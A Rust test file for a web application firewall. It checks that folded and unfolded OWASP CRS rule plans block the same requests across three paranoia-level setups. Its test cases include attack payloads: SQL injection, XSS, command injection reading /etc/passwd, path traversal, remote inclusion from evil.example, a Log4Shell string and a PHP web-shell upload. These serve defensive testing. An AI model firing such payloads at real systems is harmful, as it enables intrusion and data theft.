//! Configure-time folding (`engine::fold`: CRS's setup prologue and paranoia-level skips
//! evaluated once, replayed per request) decides exactly as evaluating every rule per
//! request: Debian's CRS 3.3.4 under three configurations — the filter's default (PL1,
//! blocking), CRS's test setup (PL4, detection only, a `ctl` in the first rule) and PL2 with
//! an exclusion that raises the paranoia level per request (TX written by a request-dependent
//! rule, which must stop folding) — on benign requests and attacks of every family and body
//! type. The CRS regression corpus makes the same comparison on its 2,400 requests
//! (`crs_regression.rs`, with the shared data).

use portcullis_waf::engine::{Request, Ruleset, Transaction};
use portcullis_waf::seclang::{self, FsSource};
use std::path::Path;

const DEBIAN_RULES: &str = "/usr/share/modsecurity-crs/rules";
const DEBIAN_SETUP: &str = "/etc/modsecurity/crs/crs-setup.conf";

fn conf(before_setup: &str, after_setup: &str) -> String {
    format!(
        "{}\n{before_setup}\nInclude {DEBIAN_SETUP}\n{after_setup}\nInclude {DEBIAN_RULES}/*.conf\n",
        portcullis_waf::crs::RECOMMENDED
    )
}

/// (name, rules, whether the paranoia-level skips can be folded)
fn configurations() -> Vec<(&'static str, String, bool)> {
    vec![
        ("PL1 blocking", conf("SecRuleEngine On", ""), true),
        (
            "CRS test setup (PL4, detection only)",
            conf(
                "SecRuleEngine DetectionOnly\n\
                 SecAction \"id:900005,phase:1,nolog,pass,ctl:ruleEngine=DetectionOnly,\
                 ctl:ruleRemoveById=910000,setvar:tx.paranoia_level=4,\
                 setvar:tx.crs_validate_utf8_encoding=1,setvar:tx.arg_name_length=100,\
                 setvar:tx.arg_length=400\"",
                "",
            ),
            true,
        ),
        (
            "PL2, PL3 under /admin",
            conf(
                "SecRuleEngine On\n\
                 SecAction \"id:900000,phase:1,nolog,pass,setvar:tx.paranoia_level=2\"",
                "SecRule REQUEST_FILENAME \"@beginsWith /admin\" \
                 \"id:1000,phase:1,pass,nolog,setvar:tx.paranoia_level=3\"",
            ),
            false,
        ),
    ]
}

fn request(method: &str, uri: &str, headers: &[(&str, &str)]) -> Request {
    let mut h: Vec<(Vec<u8>, Vec<u8>)> = vec![
        (b"Host".to_vec(), b"shop.example.com".to_vec()),
        (
            b"User-Agent".to_vec(),
            b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0".to_vec(),
        ),
        (b"Accept".to_vec(), b"text/html,*/*;q=0.8".to_vec()),
    ];
    for (k, v) in headers {
        h.retain(|(n, _)| !n.eq_ignore_ascii_case(k.as_bytes()));
        h.push((k.as_bytes().to_vec(), v.as_bytes().to_vec()));
    }
    Request {
        method: method.into(),
        uri: uri.as_bytes().to_vec(),
        protocol: "HTTP/1.1".into(),
        headers: h,
        remote_addr: "203.0.113.9".into(),
        remote_port: 40000,
        server_addr: "10.0.0.1".into(),
        server_port: 443,
        unique_id: "0f5b7c9e1d2a".into(),
    }
}

fn cases() -> Vec<(Request, Vec<u8>)> {
    let form = [("Content-Type", "application/x-www-form-urlencoded")];
    let json = [("Content-Type", "application/json")];
    let multipart = [("Content-Type", "multipart/form-data; boundary=XyZ")];
    let xml = [("Content-Type", "text/xml")];
    let mut out = vec![
        (request("GET", "/", &[]), Vec::new()),
        (
            request("GET", "/products?page=2&sort=price", &[]),
            Vec::new(),
        ),
        (request("GET", "/admin/users?id=7", &[]), Vec::new()),
        (
            request("GET", "/admin/users?id=1%27%20OR%20%271%27%3D%271", &[]),
            Vec::new(),
        ),
        (
            request(
                "GET",
                "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
                &[],
            ),
            Vec::new(),
        ),
        (
            request("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", &[]),
            Vec::new(),
        ),
        (
            request("GET", "/run?cmd=%3Bcat%20%2Fetc%2Fpasswd", &[]),
            Vec::new(),
        ),
        (
            request("GET", "/file?path=../../../../etc/shadow", &[]),
            Vec::new(),
        ),
        (
            request("GET", "/inc?url=http://evil.example/shell.txt?", &[]),
            Vec::new(),
        ),
        (
            request("GET", "/x?a=%24%7Bjndi%3Aldap%3A%2F%2Fe%2Fa%7D", &[]),
            Vec::new(),
        ),
        (
            request("GET", "/p?f=php://filter/resource=index.php", &[]),
            Vec::new(),
        ),
        (
            request("GET", "/n?x=require('child_process').exec('id')", &[]),
            Vec::new(),
        ),
        (request("GET", "/admin?x=%00%01", &[]), Vec::new()),
        (request("GET", "/a?b=%uff1cscript%uff1e", &[]), Vec::new()),
        (
            request("GET", "/", &[("User-Agent", "nikto/2.1.6")]),
            Vec::new(),
        ),
        (request("GET", "/", &[("User-Agent", "")]), Vec::new()),
        (
            request("GET", "/", &[("Cookie", "session=3f9a1c2b7d; theme=dark")]),
            Vec::new(),
        ),
        (
            request("GET", "/", &[("Cookie", "id=1' or 1=1--")]),
            Vec::new(),
        ),
        (
            request("GET", "/", &[("Referer", "javascript:alert(1)")]),
            Vec::new(),
        ),
        (
            request("GET", "/", &[("Range", "bytes=1-2,3-4,5-6,7-8,9-10,11-12")]),
            Vec::new(),
        ),
        (request("GET", "/", &[("Proxy", "evil")]), Vec::new()),
        (request("GET", "/", &[("Accept", "")]), Vec::new()),
        (request("GET", "/index.php.bak", &[]), Vec::new()),
        (request("TRACE", "/", &[]), Vec::new()),
        (request("GET", "/?a=1&a=2&a=3&b[]=x", &[]), Vec::new()),
        (
            request("POST", "/contact", &form),
            b"name=Jane+Doe&email=jane%40example.com&comment=Great+service".to_vec(),
        ),
        (
            request("POST", "/admin/contact", &form),
            b"name=Jane+Doe&comment=select+name+from+users".to_vec(),
        ),
        (
            request("POST", "/comment", &form),
            b"text=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E".to_vec(),
        ),
        (request("POST", "/bad", &form), b"a=%zz&b=%u00".to_vec()),
        (
            request("POST", "/api/orders", &json),
            br#"{"cart":[{"id":1,"name":"Walking shoes","qty":2}],"currency":"EUR"}"#.to_vec(),
        ),
        (
            request("POST", "/api/orders", &json),
            br#"{"q":"1' UNION SELECT 1,2,3--","n":{"x":"<script>"}}"#.to_vec(),
        ),
        (request("POST", "/api/orders", &json), b"{\"a\":".to_vec()),
        (
            request("POST", "/upload", &multipart),
            b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\
              Content-Type: text/plain\r\n\r\n<?php system($_GET['c']); ?>\r\n--XyZ--\r\n"
                .to_vec(),
        ),
        (
            request("POST", "/upload", &multipart),
            b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nok\r\n--XyZ".to_vec(),
        ),
        (
            request("POST", "/soap", &xml),
            b"<?xml version=\"1.0\"?><a><b>1' or '1'='1</b></a>".to_vec(),
        ),
        (request("POST", "/soap", &xml), b"<a><b>".to_vec()),
    ];
    // Every request again with an HTTP/1.0 request line and no Host.
    let more: Vec<(Request, Vec<u8>)> = out
        .iter()
        .take(8)
        .map(|(r, b)| {
            let mut r = r.clone();
            r.protocol = "HTTP/1.0".into();
            r.headers.retain(|(k, _)| k.as_slice() != b"Host");
            (r, b.clone())
        })
        .collect();
    out.extend(more);
    out
}

fn run(ruleset: &Ruleset, request: &Request, body: &[u8]) -> Transaction {
    let mut tx = ruleset.transaction(request.clone());
    tx.process_request_headers();
    tx.append_request_body(body);
    tx.process_request_body();
    tx.process_response_headers(200, vec![(b"Content-Type".to_vec(), b"text/html".to_vec())]);
    tx.process_response_body();
    tx.process_logging();
    tx
}

fn outcome(tx: &Transaction) -> String {
    let vars: Vec<Option<String>> = [
        "anomaly_score",
        "inbound_anomaly_score",
        "executing_paranoia_level",
        "paranoia_level",
        "detection_paranoia_level",
        "ua_hash",
        "real_ip",
        "crs_setup_version",
    ]
    .iter()
    .map(|k| tx.tx_var(k))
    .collect();
    format!(
        "{:#?}\n{:?}\n{:?}\n{}\n{:?}\n{:?}",
        tx.matched_rules(),
        tx.intervention(),
        tx.detected_intervention(),
        tx.inbound_anomaly_score(),
        tx.runtime_errors(),
        vars
    )
}

#[test]
fn folded_plans_decide_as_unfolded_ones_on_debian_crs() {
    assert!(
        Path::new(DEBIAN_RULES).is_dir() && Path::new(DEBIAN_SETUP).is_file(),
        "Debian's modsecurity-crs is missing ({DEBIAN_RULES}): run scripts/setup"
    );
    let cases = cases();
    for (name, text, skips_fold) in configurations() {
        let directives = seclang::parse(&text, "/crs/main.conf", &FsSource)
            .unwrap_or_else(|e| panic!("{name}: {e}"));
        let folded = Ruleset::compile(directives.clone(), &FsSource).unwrap();
        let plain = Ruleset::compile_unfolded(directives, &FsSource).unwrap();
        let report = folded.report();
        eprintln!(
            "{name}: {} rules folded, {} of them the phase-1 prologue; {} operators compiled \
             with the prologue's TX",
            report.folded_rule_count,
            report.folded_prologue_rule_count,
            report.folded_operator_count
        );
        // `@within %{tx.allowed_methods}` and the like, when their TX is the prologue's (23
        // with the whole prologue; 9 when it ends after crs-setup.conf).
        assert_eq!(
            report.folded_operator_count > 15,
            skips_fold,
            "{name}: {report:?}"
        );
        // ~100 paranoia-level skips when the paranoia level is the configuration's; when a
        // request-dependent rule may change it, they are evaluated per request.
        assert_eq!(
            report.folded_rule_count > 100,
            skips_fold,
            "{name}: {report:?}"
        );
        assert_eq!(plain.report().folded_rule_count, 0);
        let mut blocked = 0;
        for (i, (request, body)) in cases.iter().enumerate() {
            // Twice on the same plan: the second transaction reuses the first's buffers.
            for round in 0..2 {
                let (a, b) = (run(&folded, request, body), run(&plain, request, body));
                let (oa, ob) = (outcome(&a), outcome(&b));
                assert!(
                    oa == ob,
                    "{name}, case {i} ({} {}), round {round}: folded\n{oa}\nunfolded\n{ob}",
                    request.method,
                    String::from_utf8_lossy(&request.uri)
                );
                if round == 0 && (a.intervention().is_some() || a.detected_intervention().is_some())
                {
                    blocked += 1;
                }
            }
        }
        // The comparison covers both outcomes.
        assert!(
            blocked > 10 && blocked < cases.len() - 5,
            "{name}: {blocked} of {} blocked",
            cases.len()
        );
    }
}

#[test]
fn a_request_dependent_paranoia_level_is_not_folded() {
    let text = conf(
        "SecRuleEngine On\nSecAction \"id:900000,phase:1,nolog,pass,setvar:tx.paranoia_level=1\"",
        "SecRule REQUEST_FILENAME \"@beginsWith /admin\" \
         \"id:1000,phase:1,pass,nolog,setvar:tx.paranoia_level=4\"",
    );
    let directives = seclang::parse(&text, "/crs/main.conf", &FsSource).unwrap();
    let folded = Ruleset::compile(directives, &FsSource).unwrap();
    // 942432 is paranoia level 4: it fires on the same argument under /admin only.
    let fired = |uri: &str| {
        run(&folded, &request("GET", uri, &[]), b"")
            .matched_rules()
            .iter()
            .any(|m| m.id == 942432)
    };
    assert!(fired("/admin/x?a=b;;c"));
    assert!(!fired("/shop/x?a=b;;c"));
}
